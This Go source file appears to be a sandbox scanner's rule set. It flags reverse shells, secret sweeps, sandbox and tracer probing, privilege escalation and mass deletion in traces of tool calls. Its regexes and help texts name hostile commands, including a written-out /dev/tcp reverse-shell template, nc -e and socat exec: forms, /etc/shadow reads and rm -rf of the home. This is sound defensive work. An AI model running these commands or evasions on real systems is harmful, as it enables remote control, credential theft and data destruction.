package rules

import (
	"cmp"
	"fmt"
	"maps"
	"path"
	"regexp"
	"slices"
	"strings"

	"github.com/sandboxctl/sandboxctl/toolspec"
	"github.com/sandboxctl/sandboxctl/trace"
)

// Command patterns. They run on exec argv joined with spaces, on shell -c
// scripts, and on bash tool-call commands.
var (
	reNcExec         = regexp.MustCompile(`\b(?:nc|ncat|netcat|nc\.traditional|busybox\s+nc)\b[^|;&]*\s-(?:[a-zA-Z]*[ec])\s*\S+|\bsocat\b[^|;&]*\bexec:|\bmkfifo\b[^;]*\|\s*(?:nc|ncat|netcat)\b|\b(?:nc|ncat|netcat)\b[^|;&]*\|\s*(?:/bin/)?(?:ba)?sh\b[^|;&]*\|\s*(?:nc|ncat|netcat)\b`)
	reScriptShell    = regexp.MustCompile(`(?s)\bsocket\b.*(?:\bdup2\b|\bpty\.spawn\b|\bsubprocess\.call\(\s*\[\s*["']/bin/(?:ba)?sh)|\bfsockopen\b.*\b(?:exec|system|proc_open)\b|\bTCPSocket\.(?:new|open)\b.*\b(?:exec|spawn|IO\.popen)\b|\bnet\.Socket\b.*\bchild_process\b`)
	reShadow         = regexp.MustCompile(`\b(?:cat|less|more|head|tail|cp|grep|tar|base64|xxd|strings)\b[^|;&]*\s/etc/(?:g?shadow)\b|\bunshadow\b`)
	reEnvironPath    = regexp.MustCompile(`^/proc/(?:self|\d+|thread-self)/environ$`)
	reEnvDump        = regexp.MustCompile(`(?:^|[;&|]\s*|(?:^|[\s$;&|])\(\s*)(?:env|printenv|export\s+-p|declare\s+-x|set)\s*(?:$|[|;&>)])|\bdict\(\s*os\.environ\s*\)|\bos\.environ\.(?:items|copy)\(\)|json\.dumps\(\s*(?:dict\()?os\.environ|JSON\.stringify\(\s*process\.env\s*\)|/proc/(?:self|\d+|\*)/environ`)
	reCrontab        = regexp.MustCompile(`\bcrontab\s+(?:-u\s+\S+\s+)?(?:-\s*$|-\s*[;&|]|[^-\s]\S*)|\|\s*crontab\b|\bcrontab\s+-\s*$`)
	reSystemctl      = regexp.MustCompile(`\bsystemctl\s+(?:--user\s+)?(?:enable|link|daemon-reload)\b|\blaunchctl\s+(?:load|bootstrap|submit)\b`)
	reGitHooks       = regexp.MustCompile(`\bgit\s+config\s+(?:--global\s+|--system\s+)?(?:core\.hooksPath|core\.sshCommand|core\.pager|core\.fsmonitor|credential\.helper|alias\.\S+\s+["']?!)`)
	reContainer      = regexp.MustCompile(`/\.dockerenv|/run/\.containerenv|/proc/1/cgroup|/proc/self/cgroup|/proc/1/sched|\bsystemd-detect-virt\b|\bvirt-what\b|\bdmidecode\b|/sys/class/dmi/|\bhypervisor\b|\bimvirt\b`)
	reTracer         = regexp.MustCompile(`\bTracerPid\b|\bstrace\b|\bltrace\b|\bptrace\b|\bfrida\b|\bsysdig\b|\bfalco\b|\bauditctl\b|\btcpdump\b|\bwireshark\b|\bbpftrace\b`)
	reEnvProbe       = regexp.MustCompile(`\buptime\b|/proc/uptime|(?i:\bsandbox\b)|\bLD_PRELOAD\b|(?i:\b(?:https?|all|no)_proxy\b)|/etc/resolv\.conf\b|\bSSL_CERT_FILE\b|\bREQUESTS_CA_BUNDLE\b|\bNODE_EXTRA_CA_CERTS\b|\blast\s+reboot\b|\bwho\s+-b\b`)
	reToolDiscover   = regexp.MustCompile(`\b(?:which|command\s+-v|type\s+-[pP]|hash|whereis)\s+(?:[\w.-]+\s+)*(?:aws|gcloud|az|kubectl|docker|gpg|doctl|terraform|vault|op|heroku|gh|ssh|solana|bitcoin-cli|geth|metamask|1password)\b`)
	reHomeSweep      = regexp.MustCompile(`(?i)\bfind\s+(?:~|\$HOME|/home|/root|/)\S*[^|;&]*-i?(?:name|path|regex)\s+["']?[^"'\s]*(?:\.pem|\.key|wallet|keystore|id_rsa|id_ed25519|credential|\.env|mnemonic|seed|secret|password|token|\.kdbx)|\bls\s+-[a-zA-Z]*R[a-zA-Z]*\s+(?:~|\$HOME|/home|/root|/)(?:/?\s|/?$)|\b(?:grep|rg|ag)\s+-[a-zA-Z]*[rR][a-zA-Z]*\s+[^|;&]*(?:password|secret|api[_-]?key|token|private[_ ]key|mnemonic|BEGIN)[^|;&]*(?:~|\$HOME|/home|/root)|(?:~|\$HOME)/\*\*?/\*\.(?:pem|key)\b|\bglob\(.*(?:\*\.pem|\*\.key|wallet\.dat|keystore|id_rsa)`)
	reSysInfo        = regexp.MustCompile(`^(?:uname\s+-a|id|whoami|hostname|cat\s+/etc/(?:os-release|issue|passwd)|ip\s+a(?:ddr)?|ifconfig|arp\s+-a)$`)
	reSudo           = regexp.MustCompile(`(?:^|[;&|(]\s*)(?:sudo|doas|runuser)\b`)
	reRootShell      = regexp.MustCompile(`(?:^|[;&|(]\s*)(?:su|pkexec)(?:\s|$)|\bsudo\s+(?:-\S*[isS]\S*\b|su\b|(?:/bin/|/usr/bin/)?(?:ba|z|da)?sh\b)|\|\s*sudo\s+-S\b`)
	rePipedSudoShell = regexp.MustCompile(`\|\s*sudo\s+(?:-\S+\s+)*(?:/bin/|/usr/bin/)?(?:ba|z|da)?sh\b(?:\s+-s\b|\s+-\s)?`)
	reSetuid         = regexp.MustCompile(`\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+[rwx]*s|[4-7][0-7]{3})\b`)
	reDockerSock     = regexp.MustCompile(`/(?:var/)?run/docker\.sock|/run/containerd/containerd\.sock|\bdocker\s+(?:-H|--host)\b`)
	reSudoersCmd     = regexp.MustCompile(`(?:>>?|\btee\s+(?:-a\s+)?)\s*/etc/(?:sudoers|sudoers\.d/\S*|passwd|shadow|ld\.so\.preload)\b|\bvisudo\b|\busermod\s+-aG\s+(?:sudo|wheel|docker)\b`)
	reWipe           = regexp.MustCompile(`\bshred\b|\bwipe\s|\bsrm\s|\bdd\s+[^|;&]*of=(?:/dev/(?:sd|nvme|vd|xvd|hd|mmcblk)|~|\$HOME)|\bmkfs(?:\.\w+)?\s`)
	// reFindDelete is find -delete over the home or the root; reFindSelect
	// its tests that pick files by name, path, age or size: a find that
	// selects (*.pyc, caches older than a week) is a cleanup, and a bulk
	// deletion it does anyway is counted from the unlinks.
	reFindDelete    = regexp.MustCompile(`\bfind\s+(?:~|\$HOME|/|/home\S*|/root|/Users\S*)\s[^|;&]*-delete\b`)
	reFindAll       = regexp.MustCompile(`\s-i?name\s+(?:'\*'|"\*"|\\\*|\*)\s`)
	reFindSelect    = regexp.MustCompile(`\s-(?:i?name|i?path|i?regex|i?wholename|mtime|mmin|atime|amin|ctime|cmin|newer\w*|size|empty|user|links)\s`)
	reForcePush     = regexp.MustCompile(`\bgit\s+push\b[^;&|\n]*\s(?:-f|--force|--force-with-lease|\+[\w/.-]+)(?:\s|$|;|&|\|)`)
	reSecretPattern = regexp.MustCompile(`(?i)password|secret|api[_-]?key|token|private key|BEGIN|mnemonic|wallet|\.pem|\.key\b|id_rsa`)
	reURL           = regexp.MustCompile(`https?://[^\s"'<>()\]\[\x60]+`)
)

func short(s string) string { return capString(oneLine(s), 160) }

// readBy names the program that read a file, for a finding's message.
func readBy(proc string) string {
	if proc == "" {
		return ""
	}
	return " by " + proc
}

func shellRules() {
	def(Rule{ID: "SBX-SHELL-001", Family: "command-and-control", Title: "Reverse shell through /dev/tcp",
		Severity: Critical, Confidence: ConfHigh, Technique: "T1059.004", Harm: HarmRemoteShell,
		Help: "A shell whose input or output is a bash /dev/tcp or /dev/udp redirect to a remote host " +
			"(bash -i >& /dev/tcp/h/p 0>&1, or exec N<>/dev/tcp/h/p feeding a loop or a shell that runs " +
			"what it reads). A one-off send or a port check through /dev/tcp is not a shell and does " +
			"not count; the connection itself is reported by the network rules."},
		func(c *ctx, r *Rule) {
			for _, cm := range c.cmds {
				for _, d := range c.shellAll(cm.text).DevTCP {
					if d.Shell {
						c.hit(r, d.Target, "shell bound to "+d.Target+": "+short(cm.text), cm.ev)
					}
				}
			}
		})
	def(Rule{ID: "SBX-SHELL-002", Family: "command-and-control", Title: "Reverse shell through netcat or socat",
		Severity: Critical, Confidence: ConfHigh, Technique: "T1059", Harm: HarmRemoteShell,
		Help: "nc/ncat -e, -c, --exec or --sh-exec, socat exec:/system:, or a pipeline where a shell " +
			"reads from or writes to netcat (the mkfifo form): a shell bound to a connection. Seen in " +
			"exec argv as well as in commands read by the shell parser."},
		func(c *ctx, r *Rule) {
			for _, cm := range c.cmds {
				if reNcExec.MatchString(cm.text) || c.shellAll(cm.text).netShell {
					c.hit(r, cm.ev.ToolCallID, "shell bound to a connection: "+short(cm.text), cm.ev)
				}
				if cm.argv != nil && ncExecArgv(argvCmd(cm.argv)) {
					c.hit(r, cm.ev.ToolCallID, "shell bound to a connection: "+short(cm.text), cm.ev)
				}
			}
		})
	def(Rule{ID: "SBX-SHELL-003", Family: "command-and-control", Title: "Scripted reverse shell",
		Severity: Critical, Confidence: ConfHigh, Technique: "T1059.006", Harm: HarmRemoteShell,
		Help: "A Python, Perl, Ruby, PHP or Node one-liner that opens a socket and hands it to a shell " +
			"(socket + dup2 + pty.spawn and the like)."},
		commandMatch(reScriptShell, "", "socket handed to a shell: "))
	def(Rule{ID: "SBX-SHELL-004", Family: "command-and-control", Title: "Interactive shell started after an outbound connection",
		Severity: High, Confidence: ConfMedium, Technique: "T1059", Harm: HarmRemoteShell,
		Help: "A process connected out and then it, or a child, started a shell with no script " +
			"(sh -i, or a bare sh reading its input): the shape of a reverse shell whatever its source."},
		func(c *ctx, r *Rule) {
			conn := map[int]*trace.Event{}
			for i := range c.events {
				e := &c.events[i]
				switch d := e.Data.(type) {
				case *trace.Net:
					if e.Type == trace.TypeConnect && (d.Family == "inet" || d.Family == "inet6") && d.Port != 53 && !isLoopback(d.Addr) {
						if _, ok := conn[e.PID]; !ok {
							conn[e.PID] = e
						}
					}
				case *trace.Exec:
					if d.Errno != "" || len(d.Argv) == 0 || !isShell(d.Argv[0]) || !interactiveShell(d.Argv) {
						continue
					}
					for _, pid := range append([]int{e.PID}, c.tree.Ancestors(e.PID)...) {
						if ce, ok := conn[pid]; ok && ce.Seq < e.Seq {
							c.hit(r, fmt.Sprint(pid), "shell "+short(strings.Join(d.Argv, " "))+" after "+Summarize(*ce), ce, e)
							break
						}
					}
				}
			}
		})
	shellProbeRule()
}

func shellProbeRule() {
	def(Rule{ID: "SBX-SHELL-005", Family: "command-and-control", Title: "Remote shell answered the jail's command",
		Severity: Critical, Confidence: ConfHigh, Technique: "T1059", Harm: HarmRemoteShell,
		Help: "A raw connection looked like a shell (a prompt, a shell's warnings, or a client that sent " +
			"nothing), so the jail's sink sent it one harmless command whose answer has to be computed " +
			"(echo of a sum between two random tags), and the answer came back: something on the skill's " +
			"side ran what the network sent. Whatever opened the connection (a script, a binary, a " +
			"one-liner), this is a working remote shell."},
		func(c *ctx, r *Rule) {
			for i := range c.events {
				e := &c.events[i]
				if d, ok := e.Data.(*trace.Connection); ok && d.ProbeAnswered {
					dst := d.Name
					if dst == "" {
						dst = d.DstIP
					}
					c.hit(r, fmt.Sprintf("%s:%d", dst, d.DstPort), fmt.Sprintf("the connection to %s:%d ran the jail's command %q and sent back its computed answer",
						dst, d.DstPort, strings.TrimSpace(d.Probe)), e)
				}
			}
		})
}

// procTools read /proc/<pid>/* of every process as their job (pgrep -f,
// ps, top): their reads of /proc/1/cgroup are not probes.
var procTools = set("ps", "pgrep", "pkill", "pidof", "killall", "top", "htop", "pstree", "lsof", "fuser", "w", "uptime")

// mountReaders read their own cgroup or the mount table as their job:
// runtimes sizing their heap to the container's limits, disk tools.
var mountReaders = set("java", "node", "dotnet", "df", "du", "mount", "findmnt", "lsblk", "stat")

func isLoopback(a string) bool {
	return strings.HasPrefix(a, "127.") || a == "::1" || a == "localhost"
}

// interactiveShell reports a shell that runs no script: sh -i, or sh alone.
func interactiveShell(argv []string) bool {
	for _, a := range argv[1:] {
		if a == "-i" || (strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "--") && strings.Contains(a, "i") && !strings.Contains(a, "c")) {
			return true
		}
		if strings.HasPrefix(a, "-") && strings.Contains(a, "c") {
			return false
		}
		if !strings.HasPrefix(a, "-") {
			return false // a script file
		}
	}
	return true
}

func probeRules() {
	def(Rule{ID: "SBX-PROBE-001", Family: "discovery", Title: "Container or virtual machine detection",
		Severity: Medium, Confidence: ConfMedium, Technique: "T1497.001",
		Help: "Checks for /.dockerenv, /run/.containerenv, /proc/1/cgroup, its own cgroup or mount table " +
			"(but by runtimes and disk tools), DMI data or virtualisation tools (systemd-detect-virt, " +
			"virt-what). Malicious skills stay quiet when they find a sandbox; a skill has no use for this."},
		func(c *ctx, r *Rule) {
			for _, f := range c.files {
				if f.op == opRead {
					if _, ok := c.matchPath(containerProbePaths, f.path); ok && !procTools[f.proc] {
						c.hit(r, "probe", "probe of "+f.path, f.ev)
					} else if _, ok := c.matchPath(runtimeProbePaths, f.path); ok && !procTools[f.proc] && !mountReaders[f.proc] {
						c.hit(r, "probe", "probe of "+f.path+readBy(f.proc), f.ev)
					}
				}
			}
			for _, cm := range c.cmds {
				if m := reContainer.FindString(cm.text); m != "" {
					c.hit(r, "probe", "command probes "+m+": "+short(cm.text), cm.ev)
				}
			}
		})
	def(Rule{ID: "SBX-PROBE-002", Family: "discovery", Title: "Tracer or monitoring detection",
		Severity: Medium, Confidence: ConfMedium, Technique: "T1497.001",
		Help: "Looks for a tracer or monitor: reads /proc/*/status (TracerPid) or looks for TracerPid, " +
			"strace/ltrace/gdb/frida in ps output, auditd, sysdig, falco. A sandbox tell: the trace runs " +
			"again without the tracer (docs/sandbox.md, Stealth pass)."},
		func(c *ctx, r *Rule) {
			for _, cm := range c.cmds {
				if m := reTracer.FindString(cm.text); m != "" {
					c.hit(r, "tracer", "looks for "+m+": "+short(cm.text), cm.ev)
				}
			}
			// A status file holds TracerPid; the process tools read every
			// process's as their job.
			for _, f := range c.files {
				if f.op == opRead && !procTools[f.proc] {
					if _, ok := c.matchPath(tracerProbePaths, f.path); ok {
						c.hit(r, "tracer", "read of "+f.path+" (TracerPid)"+readBy(f.proc), f.ev)
					}
				}
			}
		})
	def(Rule{ID: "SBX-PROBE-003", Family: "discovery", Title: "Environment freshness or proxy check",
		Severity: Low, Confidence: ConfLow, Technique: "T1497",
		Help: "Uptime, last reboot, proxy or CA variables, the resolver's configuration, LD_PRELOAD, " +
			"variables named like SANDBOX: checks sandbox-evading malware makes before acting."},
		func(c *ctx, r *Rule) {
			for _, f := range c.files {
				if f.op == opRead && f.path == "/proc/uptime" && f.proc != "" && f.proc != "uptime" && !isShell(f.proc) {
					c.hit(r, "env", "read of /proc/uptime by "+f.proc, f.ev)
				}
			}
			for _, cm := range c.cmds {
				if m := reEnvProbe.FindString(cm.text); m != "" {
					c.hit(r, "env", "checks "+m+": "+short(cm.text), cm.ev)
				}
			}
		})
}

func reconRules() {
	def(Rule{ID: "SBX-RECON-001", Family: "discovery", Title: "Discovery of credential-bearing tools",
		Severity: Low, Confidence: ConfMedium, Technique: "T1518",
		Help: "which / command -v over aws, gcloud, kubectl, docker, gpg, ssh, vault...: finding out " +
			"which credentials are worth stealing."},
		commandMatch(reToolDiscover, "tools", "tool discovery: "))
	def(Rule{ID: "SBX-RECON-002", Family: "discovery", Title: "Home directory swept for secrets",
		Severity: Medium, Confidence: ConfMedium, Technique: "T1083",
		Help: "find / ls -R / grep -r over the home or the root looking for keys, wallets, .env files, " +
			"passwords or tokens (or a search_files call doing the same)."},
		func(c *ctx, r *Rule) {
			commandMatch(reHomeSweep, "sweep", "secret sweep: ")(c, r)
			for i := range c.events {
				e := &c.events[i]
				if d, ok := e.Data.(*trace.ToolCall); ok && d.Tool == toolspec.SearchFiles {
					a := decodeArgs(d)
					if reSecretPattern.MatchString(a.Pattern) {
						c.hit(r, "sweep", "search_files for "+short(a.Pattern), e)
					}
				}
			}
		})
	def(Rule{ID: "SBX-RECON-003", Family: "discovery", Title: "System and user fingerprinting",
		Severity: Info, Confidence: ConfLow, Technique: "T1082",
		Help: "uname -a, id, whoami, hostname, /etc/os-release, network interfaces: common in " +
			"installers, reported for context."},
		func(c *ctx, r *Rule) {
			for _, cm := range c.cmds {
				if cm.ev.Source == trace.SourceTool {
					continue
				}
				if reSysInfo.MatchString(oneLine(cm.text)) {
					c.hit(r, "sysinfo", "fingerprinting: "+short(cm.text), cm.ev)
				}
			}
		})
}

func privRules() {
	def(Rule{ID: "SBX-PRIV-001", Family: "privilege-escalation", Title: "sudo used",
		Severity: Low, Confidence: ConfMedium, Technique: "T1548.003",
		Help: "The skill ran a command through sudo, doas or runuser. The sandbox's sudo runs what it is " +
			"asked as the user, never as root (docs/sandbox.md), so the step goes on and what it tries " +
			"shows; installers do this too (sudo apt-get install), so on its own it is low. A root " +
			"shell or a piped password is SBX-PRIV-004."},
		func(c *ctx, r *Rule) {
			for _, cm := range c.cmds {
				if cm.argv != nil {
					switch path.Base(cm.argv[0]) {
					case "sudo", "doas", "runuser":
						c.hit(r, cm.ev.ToolCallID, "runs "+short(cm.text), cm.ev)
					}
				} else if reSudo.MatchString(cm.text) {
					c.hit(r, cm.ev.ToolCallID, "runs "+short(cm.text), cm.ev)
				}
			}
		})
	def(Rule{ID: "SBX-PRIV-004", Family: "privilege-escalation", Title: "Root shell or password fed to sudo/su",
		Severity: Medium, Confidence: ConfHigh, Technique: "T1548.003",
		Help: "su, pkexec, sudo -i/-s, sudo su, sudo bash, or a password piped into sudo -S: an " +
			"attempt at a root shell rather than one command."},
		func(c *ctx, r *Rule) {
			for _, cm := range c.cmds {
				if cm.argv != nil {
					switch path.Base(cm.argv[0]) {
					case "su", "pkexec":
						c.hit(r, cm.ev.ToolCallID, "runs "+short(cm.text), cm.ev)
						continue
					case "sudo", "doas":
						if sc := argvCmd(cm.argv); shells[sc.Name] {
							if in, _, _ := interpInput(sc.Name, sc.argText()); in {
								continue // a root shell reading a pipe: download-and-run, judged by SBX-EXEC-001
							}
						}
					}
				}
				// curl ... | sudo bash is download-and-run as root, judged
				// with its destination by SBX-EXEC-001.
				if reRootShell.MatchString(rePipedSudoShell.ReplaceAllString(cm.text, "|")) {
					c.hit(r, cm.ev.ToolCallID, "root shell attempt: "+short(cm.text), cm.ev)
				}
			}
		})
	def(Rule{ID: "SBX-PRIV-002", Family: "privilege-escalation", Title: "Setuid or setgid bit set",
		Severity: High, Confidence: ConfHigh, Technique: "T1548.001",
		Help: "chmod u+s / g+s or a 4xxx/2xxx mode: a binary that runs with its owner's rights."},
		func(c *ctx, r *Rule) {
			for _, f := range c.files {
				if f.op == opChmod && setuidMode(f.mode) {
					c.hit(r, f.path, "setuid mode "+f.mode+" on "+f.path, f.ev)
				}
			}
			commandMatch(reSetuid, "", "setuid chmod: ")(c, r)
		})
	def(Rule{ID: "SBX-PRIV-003", Family: "privilege-escalation", Title: "Write to sudoers, passwd or the Docker socket",
		Severity: High, Confidence: ConfHigh, Technique: "T1548", Harm: HarmPersistence,
		Help: "A write (or attempt) to /etc/sudoers, /etc/passwd, /etc/shadow or /etc/ld.so.preload, " +
			"or use of the Docker or containerd socket: root on the host."},
		func(c *ctx, r *Rule) {
			for _, f := range c.files {
				if f.op == opWrite || f.op == opRename {
					t := f.path
					if f.op == opRename {
						t = f.newPath
					}
					if _, ok := c.matchPath(privEscPaths, t); ok {
						c.hit(r, t, "write to "+t+failedNote(f.failed), f.ev)
					}
				}
				if strings.HasSuffix(f.path, "/docker.sock") {
					c.hitAs(r, "docker.sock", High, ConfHigh, HarmNone, "access to "+f.path, f.ev)
				}
			}
			for i := range c.events {
				e := &c.events[i]
				if d, ok := e.Data.(*trace.Net); ok && d.Family == "unix" && strings.HasSuffix(d.Addr, "docker.sock") {
					c.hitAs(r, "docker.sock", High, ConfHigh, HarmNone, "connect to "+d.Addr, e)
				}
			}
			for _, cm := range c.cmds {
				switch {
				case reSudoersCmd.MatchString(cm.text):
					c.hit(r, cm.ev.ToolCallID, "command: "+short(cm.text), cm.ev)
				case reDockerSock.MatchString(cm.text):
					c.hitAs(r, "docker.sock", High, ConfHigh, HarmNone, "command: "+short(cm.text), cm.ev)
				}
			}
		})
}

// ncExecArgv reports netcat or socat argv that binds a program to the
// connection.
func ncExecArgv(c shCmd) bool {
	args := c.argText()
	switch c.Name {
	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd":
		for _, a := range args {
			if a == "--exec" || a == "--sh-exec" || a == "--lua-exec" || strings.HasPrefix(a, "--exec=") || strings.HasPrefix(a, "--sh-exec=") {
				return true
			}
			if len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsAny(a[1:], "ec") {
				return true
			}
		}
	case "socat":
		for _, a := range args {
			l := strings.ToLower(a)
			if strings.HasPrefix(l, "exec:") || strings.HasPrefix(l, "system:") || strings.Contains(l, ",exec:") {
				return true
			}
		}
	}
	return false
}

// wipedTarget returns the home or root a recursive rm deletes (or empties),
// or "".
func (c *ctx) wipedTarget(rm shCmd) string {
	if rm.Name != "rm" {
		return ""
	}
	recursive, children := false, 0
	var ops []shWord
	for i, w := range rm.Args {
		a := w.text
		switch {
		case a == "--":
			ops = append(ops, rm.Args[i+1:]...)
		case a == "--recursive" || len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsAny(a, "rR"):
			recursive = true
			continue
		case strings.HasPrefix(a, "-"):
			continue
		default:
			ops = append(ops, w)
			continue
		}
		break
	}
	if !recursive {
		return ""
	}
	for _, w := range ops {
		if !w.known || w.text == "" {
			continue // an unresolved or empty operand deletes nothing we can name
		}
		p := strings.TrimSuffix(strings.TrimSuffix(w.text, "*"), "/")
		switch p {
		case "", "~", "/home", "/root", c.home, "/usr", "/etc", "/var":
			if p == "" {
				p = "/"
			}
			return p
		}
		if strings.HasPrefix(p, "/home/") && !strings.Contains(p[len("/home/"):], "/") {
			return p
		}
		if path.Dir(path.Clean(w.text)) == c.home {
			children++
		}
	}
	if children >= 5 {
		return c.home + " (its contents)"
	}
	return ""
}

// disposable reports files whose deletion destroys nothing of the user's:
// caches, build output, dependencies, temporary files, bytecode.
func disposable(p string) bool {
	for _, s := range []string{"/.cache/", "/node_modules/", "/__pycache__/", "/build/", "/dist/", "/target/",
		"/.venv/", "/venv/", "/.tox/", "/.pytest_cache/", "/.mypy_cache/", "/.next/", "/.gradle/", "/tmp/",
		"/.npm/", "/.cargo/registry/", "/go/pkg/mod/", "/.git/objects/"} {
		if strings.Contains(p, s) {
			return true
		}
	}
	return strings.HasPrefix(p, "/tmp/") || strings.HasSuffix(p, ".pyc") || strings.HasSuffix(p, ".o") ||
		strings.HasSuffix(p, ".tmp") || strings.HasSuffix(p, ".log")
}

// wipedRepos finds the home's git working trees the trace destroyed: at
// least 80% of the files a repository held outside .git when the trace
// started (and at least 5) deleted and not written again, over any number
// of tool calls. A build or a git clean removes what it made or ignores; a
// generator writes back what it removed; this removes the work.
func (c *ctx) wipedRepos(r *Rule, created map[string]bool) {
	if len(c.in.Repos) == 0 {
		return
	}
	roots := slices.Sorted(maps.Keys(c.in.Repos))
	rootOf := func(p string) string {
		root := ""
		for _, d := range roots {
			if underDir(d, p) && p != d && len(d) > len(root) {
				root = d
			}
		}
		if root == "" || underDir(root+"/.git", p) {
			return ""
		}
		return root
	}
	gone := map[string]map[string]*trace.Event{}
	for _, f := range c.files {
		if f.failed || f.ev.Source != trace.SourceSyscall {
			continue
		}
		switch {
		case f.op == opRename:
			if root := rootOf(f.newPath); root != "" {
				delete(gone[root], f.newPath)
			}
		case f.op == opWrite:
			if root := rootOf(f.path); root != "" {
				delete(gone[root], f.path)
			}
		case f.op == opUnlink && !created[f.path] && !disposable(f.path):
			root := rootOf(f.path)
			if root == "" {
				continue
			}
			if gone[root] == nil {
				gone[root] = map[string]*trace.Event{}
			}
			if gone[root][f.path] == nil {
				gone[root][f.path] = f.ev
			}
		}
	}
	for _, root := range roots {
		n, total := len(gone[root]), c.in.Repos[root].Files
		if n < 5 || n*5 < total*4 {
			continue
		}
		evs := slices.SortedFunc(maps.Values(gone[root]), func(a, b *trace.Event) int { return cmp.Compare(a.Seq, b.Seq) })
		c.hitAs(r, evs[0].ToolCallID, High, ConfHigh, HarmDestruction,
			fmt.Sprintf("the working tree of the repository %s destroyed: %d of its %d files deleted", root, n, total), evs...)
	}
}

func setuidMode(m string) bool {
	m = strings.TrimPrefix(m, "0")
	if strings.Contains(m, "S_ISUID") || strings.Contains(m, "S_ISGID") {
		return true
	}
	return len(m) == 4 && (m[0] == '2' || m[0] == '4' || m[0] == '6' || m[0] == '7')
}

func destroyRules() {
	def(Rule{ID: "SBX-DESTROY-001", Family: "impact", Title: "Recursive delete of the home or root",
		Severity: Critical, Confidence: ConfHigh, Technique: "T1485", Harm: HarmDestruction,
		Help: "A recursive rm of the home, /home, /root or / (or everything in them), read from the " +
			"command by the shell parser or from rm's argv after the shell expanded it. An rm whose " +
			"operand is an empty variable, a build folder or a path inside the home is not this."},
		func(c *ctx, r *Rule) {
			for _, cm := range c.cmds {
				if cm.argv != nil {
					if t := c.wipedTarget(argvCmd(cm.argv)); t != "" {
						c.hit(r, cm.ev.ToolCallID, "wipes "+t+": "+short(cm.text), cm.ev)
					}
					continue
				}
				for _, rm := range c.shellAll(cm.text).Removes {
					if t := c.wipedTarget(rm); t != "" {
						c.hit(r, cm.ev.ToolCallID, "wipes "+t+": "+short(cm.text), cm.ev)
					}
				}
			}
		})
	def(Rule{ID: "SBX-DESTROY-002", Family: "impact", Title: "Files shredded or deleted en masse",
		Severity: High, Confidence: ConfMedium, Technique: "T1485", Harm: HarmDestruction,
		Help: "shred, wipe, dd over a disk or the home, mkfs, or a find -delete over the home or the root that " +
			"selects nothing by name, path, age or size (high, medium confidence: suspicious), or 50 or more of the user's files under the " +
			"home deleted by one tool call, or the working tree of one of the home's git repositories destroyed " +
			"(80% or more of its files, at least 5, deleted and not written back, over the whole trace) " +
			"(high confidence: harm). Files the trace itself created, " +
			"and caches, build output, dependencies and temporary files, do not count."},
		func(c *ctx, r *Rule) {
			commandMatch(reWipe, "", "destroys data: ")(c, r)
			for _, cm := range c.cmds {
				for _, m := range reFindDelete.FindAllString(cm.text, -1) {
					if !reFindSelect.MatchString(reFindAll.ReplaceAllString(m, " ")) {
						c.hit(r, cm.ev.ToolCallID, "destroys data: "+short(cm.text), cm.ev)
					}
				}
			}
			created := map[string]bool{}
			per := map[string][]*trace.Event{}
			var order []string
			for _, f := range c.files {
				if f.op == opWrite && f.ev.Source == trace.SourceSyscall {
					if d, ok := f.ev.Data.(*trace.File); ok && strings.Contains(d.Flags, "O_CREAT") {
						created[f.path] = true
					}
				}
				if f.op == opRename {
					created[f.newPath] = true
				}
				if f.op != opUnlink || f.failed || f.ev.Source != trace.SourceSyscall || created[f.path] ||
					!underDir(c.home, f.path) || disposable(f.path) {
					continue
				}
				id := f.ev.ToolCallID
				if per[id] == nil {
					order = append(order, id)
				}
				per[id] = append(per[id], f.ev)
			}
			for _, id := range order {
				n := 0
				for _, e := range per[id] {
					n += max(e.Count, 1)
				}
				if n >= 50 {
					c.hitAs(r, id, High, ConfHigh, HarmDestruction, fmt.Sprintf("%d of the user's files deleted by one tool call", n), per[id]...)
				}
			}
			c.wipedRepos(r, created)
		})
	def(Rule{ID: "SBX-DESTROY-003", Family: "impact", Title: "Forced git push",
		Severity: Low, Confidence: ConfLow, Technique: "T1565.001",
		Help: "git push --force rewrites a remote's history; the jail stops it, the attempt is reported."},
		commandMatch(reForcePush, "", "force push: "))
}
